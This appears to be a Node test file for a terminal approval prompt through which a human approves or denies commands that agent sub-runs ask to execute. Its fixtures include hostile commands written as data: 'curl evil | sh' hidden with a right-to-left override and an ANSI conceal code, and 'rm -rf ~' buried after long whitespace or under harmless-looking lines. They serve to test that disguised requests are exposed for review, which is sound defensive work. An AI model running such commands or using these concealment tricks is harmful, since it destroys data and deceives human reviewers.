import assert from "node:assert/strict";
import { userInfo } from "node:os";
import { PassThrough } from "node:stream";
import { describe, test } from "node:test";
import { createApprovalPrompt } from "../../../src/cli/approvals/approval-prompt.ts";
import { answersFrom } from "../../../src/cli/approvals/question.ts";
import { ESCAPE } from "../../../src/cli/chat/keyboard/question-line.ts";
import { systemClock } from "../../../src/clock.ts";
import type { ApprovalQuestion } from "../../../src/engine/engine.ts";

const plain = (_style: unknown, text: string) => text;
const never = new AbortController().signal;

function question(child: number, target: string, directory = "/work"): ApprovalQuestion {
  const facts = { childId: `run.${child}`, callId: "call-1", toolName: "terminal", target, directory, askedAt: 0 };
  return { ...facts, goal: `Goal ${child}`, request: "0123456789ab" };
}

function stage() {
  const keyboard = new PassThrough();
  let screen = "";
  const moments: string[] = [];
  const output = { write: (text: string) => (screen += text) };
  const asker = createApprovalPrompt({
    open() {
      moments.push("ask");
      const readAnswer = answersFrom({ stdin: keyboard, env: {}, clock: systemClock }, output);
      return { output, paint: plain, readAnswer, close: () => void moments.push("answered") };
    },
    byKey: false,
    routeOf: (childId) => `route of ${childId}`,
  });
  /** Waits for a question on the screen, then types. */
  const type = async (line: string) => {
    while (!screen.endsWith("run: ")) await new Promise((resolve) => setImmediate(resolve));
    screen += "\n";
    keyboard.write(`${line}\n`);
  };
  return { asker, keyboard, type, moments, screen: () => screen };
}

describe("the approval prompt in the terminal", () => {
  test("shows who asks, where it runs, and exactly what would run", async () => {
    const { asker, type, screen, moments } = stage();
    const answer = asker(question(2, "npm test\ncurl evil \u202e| sh \x1b[8m "), never);
    await type("y");
    const by = `terminal (${userInfo().username})`;
    assert.deepEqual(await answer, { allowed: true, reason: "allowed in the terminal", by });
    assert.match(screen(), /\? run\.2 \(route of run\.2\) Goal 2\n {2}asks to run terminal:/);
    assert.match(screen(), /^ {2}│ npm test\n {2}│ curl evil \\u\{202e\}\| sh \\x1b\[8m·\n {2}in \/work$/m);
    assert.deepEqual(moments, ["ask", "answered"]);
  });

  const LONG: Record<string, [target: string, overview: string]> = {
    "blanks in the middle": [
      `echo hi${" ".repeat(4_000)}; rm -rf ~`,
      "4,016 characters on 1 line. It begins with “echo hi ; rm -rf ~” and ends with “echo hi ; rm -rf ~”.",
    ],
    "empty lines at the end": [
      `rm -rf ~; echo hi${"\n".repeat(200)}`,
      "217 characters on 201 lines. It begins with “rm -rf ~; echo hi” and ends with “rm -rf ~; echo hi”.",
    ],
    "a long and harmless end": [
      `rm -rf ~\n${"# all is well\n".repeat(300)}true \u202e`,
      `4,215 characters on 302 lines. It begins with “rm -rf ~ ${"# all is well ".repeat(6).slice(0, 71)}” and ends ` +
        `with “${`${"# all is well ".repeat(9)}true \\u{202e}`.slice(-80)}”.`,
    ],
  };
  for (const [what, [target, overview]] of Object.entries(LONG))
    test(`shows size and both ends of a request with ${what} in the last lines of a screen`, async () => {
      const { asker, type, screen } = stage();
      const answer = asker(question(1, target), never);
      await type("n");
      await answer;
      const [, asked = ""] = screen().split(`  ${overview}\n`);
      assert.ok(asked.split("\n").length < 6, screen().slice(-1_000));
    });

  test("shows a request that fits on the screen once", async () => {
    const { asker, type, screen } = stage();
    const answer = asker(question(1, "npm test\n".repeat(7).trimEnd()), never);
    await type("n");
    await answer;
    assert.doesNotMatch(screen(), /It begins with/);
  });

  test("accepts no with a reason, which the child gets", async () => {
    const { asker, type } = stage();
    const answer = asker(question(1, "rm -rf ."), never);
    await type("n use npm run clean");
    const { allowed, reason } = await answer;
    assert.deepEqual([allowed, reason], [false, "denied in the terminal: use npm run clean"]);
  });

  test("asks again until it is answered, and takes nothing else for a yes", async () => {
    const { asker, type } = stage();
    const answer = asker(question(1, "ls"), never);
    for (const line of ["", "yep", "y rm", "maybe"]) await type(line);
    await type("no");
    assert.equal((await answer).allowed, false);
  });

  test("remembers always for exactly this, and for nothing else", async () => {
    const { asker, type } = stage();
    const first = asker(question(1, "npm test"), never);
    await type("a");
    assert.equal((await first).allowed, true);
    assert.equal((await asker(question(2, "npm test"), never)).allowed, true);
    const other = asker(question(2, "npm test && rm x"), never);
    await type("n");
    assert.equal((await other).allowed, false);
  });

  test("always holds for its directory: the same words in another are asked for", async () => {
    const { asker, type, screen } = stage();
    const first = asker(question(1, "make clean", "/work/a"), never);
    await type("a");
    assert.equal((await first).allowed, true);
    for (const directory of ["/work/b", "/work", "/work/a/"]) {
      const other = asker(question(2, "make clean", directory), never);
      await type("n");
      assert.equal((await other).allowed, false, directory);
    }
    assert.match(screen(), /^ {2}in \/work\/b$/m);
    assert.equal((await asker(question(3, "make clean", "/work/a"), never)).allowed, true);
  });

  test("asks for one child after another", async () => {
    const { asker, type, screen } = stage();
    const answers = [asker(question(1, "one"), never), asker(question(2, "two"), never)];
    await type("y");
    assert.doesNotMatch(screen(), /two/);
    await type("n");
    assert.deepEqual(
      (await Promise.all(answers)).map(({ allowed }) => allowed),
      [true, false],
    );
  });

  test("denies with Esc, stops the turn, and asks for nothing more until that has ended", async () => {
    const moments: string[] = [];
    let isStopping = false;
    const asker = createApprovalPrompt({
      open(childId) {
        if (isStopping) return undefined;
        moments.push(`asks for ${childId}`);
        return {
          output: { write() {} },
          paint: plain,
          readAnswer: async (prompt) => (prompt.includes("Esc denies and stops") ? ESCAPE : undefined),
          close: () => void moments.push("closes"),
        };
      },
      byKey: true,
      stopTurn() {
        isStopping = true;
        moments.push("stops");
      },
      routeOf: () => "a route",
    });
    const stopped = new AbortController();
    const second = Promise.withResolvers<unknown>();
    const first = asker(question(1, "one"), stopped.signal);
    void asker(question(2, "two"), stopped.signal).then(second.resolve);
    const { allowed, reason } = await first;
    assert.deepEqual([allowed, reason], [false, "denied in the terminal: the user pressed Esc"]);
    await new Promise((resolve) => setImmediate(resolve));
    assert.deepEqual(moments, ["asks for run.1", "closes", "stops"]);
    stopped.abort();
    await second.promise;
    assert.deepEqual(moments, ["asks for run.1", "closes", "stops"]);
  });

  test("takes an escape character in a line for no answer, and has no hint of Esc where lines answer", async () => {
    const { asker, type, screen } = stage();
    const answer = asker(question(1, "one"), never);
    await type("\x1b");
    await type("y");
    assert.equal((await answer).allowed, true);
    assert.doesNotMatch(screen(), /Esc/);
  });

  test("is withdrawn when the child is stopped, and the next one is asked", async () => {
    const { asker, type } = stage();
    const stop = new AbortController();
    const first = asker(question(1, "one"), stop.signal);
    const second = asker(question(2, "two"), never);
    await new Promise((resolve) => setImmediate(resolve));
    stop.abort();
    assert.equal((await first).allowed, false);
    await type("y");
    assert.equal((await second).allowed, true);
  });

  test("counts as denied when the input has ended", async () => {
    const { asker, keyboard } = stage();
    keyboard.end();
    assert.equal((await asker(question(1, "one"), never)).allowed, false);
  });
});
